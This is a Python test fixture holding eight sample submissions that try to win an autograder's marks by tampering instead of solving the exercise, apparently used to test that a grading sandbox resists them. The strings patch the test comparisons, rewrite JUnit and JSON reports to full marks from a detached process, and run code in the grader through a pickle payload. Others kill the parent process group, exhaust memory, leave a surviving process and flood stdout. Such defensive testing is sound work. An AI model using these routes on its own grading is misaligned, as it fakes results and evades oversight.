"""Submissions for ex00 that try to win their grade by tampering instead of summing.

Each is the text of an ``ex00_ring_sum.py``; ``{pidfile}`` is where a submission that
starts a process writes its pid (so a test can check that nothing it started survives).
Without its tampering, every one of them scores 0: its ``ring_sum`` zeroes its input and
returns it, which fails every ex00 test. Used by tests/test_grading_tamper.py.
"""

_ZEROES = '''
def ring_sum(tensor):
    return tensor.mul_(0)
'''

# The two lines of the issue: replace the comparisons the tests call.
PATCH_TESTING = '''
import torch
torch.testing.assert_close = lambda *args, **kwargs: None
torch.equal = lambda *args, **kwargs: True
''' + _ZEROES

# Find the report files on an ancestor's command line (--junitxml=, --json) and rewrite them
# to full marks: at exit, and from a detached process that keeps doing it for two minutes.
REWRITE_REPORT = '''
import atexit, json, os, re, time

def _ancestor_args():
    pid, args = os.getpid(), []
    while pid > 1:
        try:
            with open(f"/proc/{{pid}}/cmdline", "rb") as f:
                args += f.read().decode(errors="replace").split("\\0")
            with open(f"/proc/{{pid}}/stat") as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
        except OSError:
            break
    return args

def _forge():
    args = _ancestor_args()
    for path in [a.split("=", 1)[1] for a in args if a.startswith("--junitxml=")]:
        try:
            text = open(path).read()
            text = re.sub(r"<(failure|error)\\b.*?(/>|</\\1>)", "", text, flags=re.S)
            open(path, "w").write(text)
        except OSError:
            pass
    for path in [args[i + 1] for i, a in enumerate(args[:-1]) if a == "--json"]:
        try:
            rows = json.load(open(path))
            for r in rows:
                r.update(points=r["max_points"], passed=r["total"], first_failure="")
            json.dump(rows, open(path, "w"))
        except (OSError, ValueError):
            pass

atexit.register(_forge)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        open("{pidfile}", "w").write(str(os.getpid()))
        for _ in range(1200):
            _forge()
            time.sleep(0.1)
    os._exit(0)
''' + _ZEROES

# Return an object whose unpickling runs code in whichever process unpickles it.
UNPICKLE_RUNS_CODE = '''
import torch

class _Payload:
    def __reduce__(self):
        return (exec, ("import builtins, torch\\n"
                       "torch.testing.assert_close = lambda *a, **k: None\\n"
                       "builtins.all = lambda *a: True",))

def ring_sum(tensor):
    tensor.mul_(0)
    return _Payload()
'''

# The same, but bypassing the sandbox's own encoder: hand raw pickle bytes to the channel.
RAW_PICKLE = UNPICKLE_RUNS_CODE + '''
import pickle, sys
_codec = sys.modules.get("lecture_lib.grading.safe_load")
if _codec is not None:
    _codec.encode = lambda value: pickle.dumps(_Payload())
'''

# Kill the process group of the process that imported us (before: the grader itself).
KILL_PARENT_GROUP = '''
import os, signal
try:
    os.killpg(os.getpgid(os.getppid()), signal.SIGKILL)
except OSError:
    pass
''' + _ZEROES

# Allocate until something gives, at import (before: in the grader's own test process).
EXHAUST_MEMORY = '''
import torch

_hoard = []
while True:
    _hoard.append(torch.ones(2**26))          # 256 MiB at a time, every page touched
''' + _ZEROES

# Start a detached process (double fork, new session) that outlives the grade.
FORK_SURVIVOR = '''
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        open("{pidfile}", "w").write(str(os.getpid()))
        time.sleep(3600)
    os._exit(0)
''' + _ZEROES

# Flood stdout: 256 MiB at import.
FLOOD_STDOUT = '''
import sys
for _ in range(256):
    sys.stdout.write("x" * 2**20 + "\\n")
''' + _ZEROES

ROUTES = {
    "patch_testing": PATCH_TESTING,
    "rewrite_report": REWRITE_REPORT,
    "unpickle_runs_code": UNPICKLE_RUNS_CODE,
    "raw_pickle": RAW_PICKLE,
    "kill_parent_group": KILL_PARENT_GROUP,
    "exhaust_memory": EXHAUST_MEMORY,
    "fork_survivor": FORK_SURVIVOR,
    "flood_stdout": FLOOD_STDOUT,
}
